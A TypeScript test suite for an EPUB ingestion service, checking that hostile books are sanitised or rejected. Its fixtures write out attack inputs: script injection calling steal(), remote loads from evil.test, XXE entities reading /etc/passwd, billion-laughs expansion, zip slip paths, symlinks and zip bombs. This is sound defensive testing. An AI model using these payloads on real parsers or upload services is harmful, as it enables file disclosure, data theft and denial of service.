import { buffer, text } from 'node:stream/consumers'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { startCatalog, type TestCatalog } from '../../support/catalog.ts'
import { container, type EpubParts, makeEpub, page } from '../../support/epub.ts'
import { makeZip } from '../../support/zip.ts'

let catalog: TestCatalog
beforeAll(async () => {
  catalog = await startCatalog()
})
afterAll(() => catalog[Symbol.asyncDispose]())

/** Ingests a book and gives its published parts by path. */
async function publish(parts: EpubParts) {
  const ended = await catalog.ingest(makeEpub(parts))
  expect(ended.findings.filter((one: any) => one.severity === 'FATAL')).toEqual([])
  expect(ended.state).toBe('SUCCEEDED')
  const prefix = `publications/1/${ended.sha256}/`
  const published: Record<string, string> = {}
  for await (const { key } of catalog.store.list(prefix)) {
    const object = await catalog.store.get(key)
    if (object) published[key.slice(prefix.length)] = await text(object.body)
  }
  return { published, codes: ended.findings.map((one: any) => one.code) as string[] }
}

const bodyOf = (document = '') => /<body>([\s\S]*)<\/body>/.exec(document)?.[1]

describe('what reaches readers of a hostile book', () => {
  test('scripts, handlers, frames and forms are gone, the text stays', async () => {
    const { published, codes } = await publish({
      chapters: {
        'one.xhtml': `<script>steal()</script><p onclick="steal()">Text</p><iframe src="https://evil.test/"></iframe>
<form action="https://evil.test/"><p>Name</p><input name="n"/></form><a href="javascript:steal()">Link</a>`,
      },
      resources: { 'steal.js': { mediaType: 'text/javascript', data: 'steal()' } },
    })
    expect(bodyOf(published['EPUB/one.xhtml'])).toBe('<p>Text</p>\n<p>Name</p><a>Link</a>')
    expect(Object.keys(published)).not.toContain('EPUB/steal.js')
    expect(codes).toContain('ACTIVE_CONTENT_REMOVED')
  })

  test('nothing is loaded from elsewhere', async () => {
    const { published, codes } = await publish({
      chapters: { 'one.xhtml': '<p><img src="https://evil.test/a.png" alt="A"/></p>' },
      resources: {
        'a.css': {
          mediaType: 'text/css',
          data: '@import "https://evil.test/b.css"; @import "c.css"; p { background: url(//evil.test/p.png) }',
        },
        'i.svg': {
          mediaType: 'image/svg+xml',
          data: '<svg xmlns="http://www.w3.org/2000/svg" onload="steal()"><script>steal()</script><image href="https://evil.test/i.png"/><circle r="1"/></svg>',
        },
      },
    })
    expect(bodyOf(published['EPUB/one.xhtml'])).toBe('<p><img alt="A"/></p>')
    expect(published['EPUB/a.css']).toBe(' @import "c.css"; p { background: url("") }')
    expect(published['EPUB/i.svg']).toContain('<image/><circle r="1"/></svg>')
    expect(Object.values(published).join('')).not.toMatch(/evil\.test|steal/)
    expect(codes).toContain('RSC-006')
  })

  test('an external entity is never fetched, and a billion laughs stay one', async () => {
    const doctype = `<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>`
    const { published, codes } = await publish({
      chapters: {
        'one.xhtml': `<?xml version="1.0"?>${doctype}<html xmlns="http://www.w3.org/1999/xhtml"><head><title>T</title></head><body><p>&xxe;&c;&nbsp;&eacute;</p></body></html>`,
      },
    })
    expect(bodyOf(published['EPUB/one.xhtml'])).toBe('<p>&amp;xxe;&amp;c;\u00a0é</p>')
    expect(codes).toEqual(expect.arrayContaining(['HTM-003', 'ENTITY_DECLARED']))
  })
})

test('a document type counts for nothing in any of a book’s documents', async () => {
  const type = (root: string) =>
    `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY a "laugh"><!ENTITY b "&a;&a;&a;"><!ENTITY % p SYSTEM "http://evil.test/p.dtd"> %p;]>`
  const withType = (source: string, root: string) => source.replace(/^(?:<\?xml.*?\?>)?/, type(root))
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;&b;</text></svg>'
  const smil =
    '<smil xmlns="http://www.w3.org/ns/SMIL" version="3.0"><body><par><text src="one.xhtml"/><audio src="&xxe;.mp3"/></par></body></smil>'
  const { published } = await publish({
    metadata: '<dc:title>A &xxe;&b; book</dc:title><dc:language>en</dc:language>',
    nav: withType(
      page('<nav epub:type="toc"><ol><li><a href="one.xhtml">&xxe;&b;</a></li></ol></nav>'),
      'html',
    ),
    resources: {
      'i.svg': { mediaType: 'image/svg+xml', data: withType(svg, 'svg') },
      'o.smil': { mediaType: 'application/smil+xml', data: withType(smil, 'smil') },
    },
    entries: [{ name: 'META-INF/container.xml', data: withType(container, 'container') }],
    packageType: type('package'),
  })
  expect(JSON.parse(published['manifest.json'] ?? '')).toMatchObject({
    metadata: { title: 'A &xxe;&b; book' },
    toc: [{ title: '&xxe;&b;' }],
  })
  expect(published['EPUB/i.svg']).toContain('<text>&amp;xxe;&amp;b;</text>')
  expect(Object.values(published).join('')).not.toMatch(/root:|laugh|evil\.test/)
})

test('an archive in the archive is neither opened nor handed on', async () => {
  const bomb = makeZip([{ name: 'z', data: Buffer.alloc(24 * 1024 * 1024) }])
  const { published } = await publish({
    resources: { 'inner.zip': { mediaType: 'application/zip', data: bomb } },
  })
  expect(Object.keys(published)).not.toContain('EPUB/inner.zip')
})

describe('a hostile archive is refused before it is inflated', () => {
  const zeros = Buffer.alloc(24 * 1024 * 1024)
  const noise = Buffer.from(Array.from({ length: 20_000 }, (_, at) => (at * 7919 + (at >> 3)) % 256))
  test.each([
    ['zip slip', [{ name: '../../../../tmp/slipped.xhtml', data: 'x' }], 'ARCHIVE_UNSAFE_PATH'],
    ['an absolute path', [{ name: '/etc/passwd', data: 'x' }], 'ARCHIVE_UNSAFE_PATH'],
    ['a path of another system', [{ name: 'EPUB\\..\\..\\x', data: 'x' }], 'ARCHIVE_UNSAFE_PATH'],
    ['a symbolic link', [{ name: 'EPUB/l', data: '/etc/passwd', symlink: true }], 'ARCHIVE_SYMLINK'],
    ['a bomb of one entry', [{ name: 'EPUB/z', data: zeros }], 'ARCHIVE_BOMB'],
    [
      'a bomb that says how large it is',
      [{ name: 'EPUB/z', data: 'x', claimedSize: 3_000_000_000 }],
      'ENTRY_TOO_LARGE',
    ],
    [
      'a bomb of overlapping entries',
      [
        { name: 'EPUB/z', data: noise },
        ...Array.from({ length: 30 }, (_, at) => ({ name: `EPUB/z${at}`, data: noise, dataOf: 5 })),
      ],
      'ARCHIVE_BOMB',
    ],
    [
      'too many entries',
      Array.from({ length: 20_001 }, (_, at) => ({ name: `e${at}`, data: '', stored: true })),
      'ARCHIVE_TOO_MANY_ENTRIES',
    ],
    ['an encrypted entry', [{ name: 'EPUB/x', data: 'x', encrypted: true }], 'ARCHIVE_ENCRYPTED'],
    [
      'one name twice',
      [
        { name: 'EPUB/x', data: 'x' },
        { name: 'EPUB/x', data: 'y' },
      ],
      'OPF-060',
    ],
  ])('%s', async (_, entries, code) => {
    const ended = await catalog.ingest(makeEpub({ entries }))
    expect(ended).toMatchObject({ state: 'FAILED', attempts: 1, book: null })
    expect(ended.findings.at(-1)).toMatchObject({ severity: 'FATAL', code })
  })

  test('a bomb that lies about its size is cut off where it claims to end', async () => {
    const { published, codes } = await publish({
      resources: { 'z.png': { mediaType: 'image/png', data: '' } },
      entries: [{ name: 'EPUB/z.png', data: zeros, claimedSize: 1000 }],
    })
    expect(codes).toContain('PKG-008')
    expect(Object.keys(published)).not.toContain('EPUB/z.png')
  })
})

test('one book that ends its reader does not touch another', async () => {
  const deep = '<b>'.repeat(300_000)
  const [bad, good] = await Promise.all([
    catalog.ingest(makeEpub({ chapters: { 'a.xhtml': deep } })),
    catalog.ingest(makeEpub({ title: 'Innocent' })),
  ])
  expect(bad).toMatchObject({ state: 'FAILED' })
  expect(bad.findings.at(-1)).toMatchObject({ code: 'DOCUMENT_TOO_COMPLEX', location: 'EPUB/a.xhtml' })
  expect(good).toMatchObject({ state: 'SUCCEEDED', book: { title: 'Innocent' } })
})

test('the original file is kept as it came', async () => {
  const file = makeEpub({ title: 'Kept' })
  const ended = await catalog.ingest(file)
  const object = await catalog.store.get(`files/${ended.sha256}`)
  expect(object && (await buffer(object.body)).equals(file)).toBe(true)
})
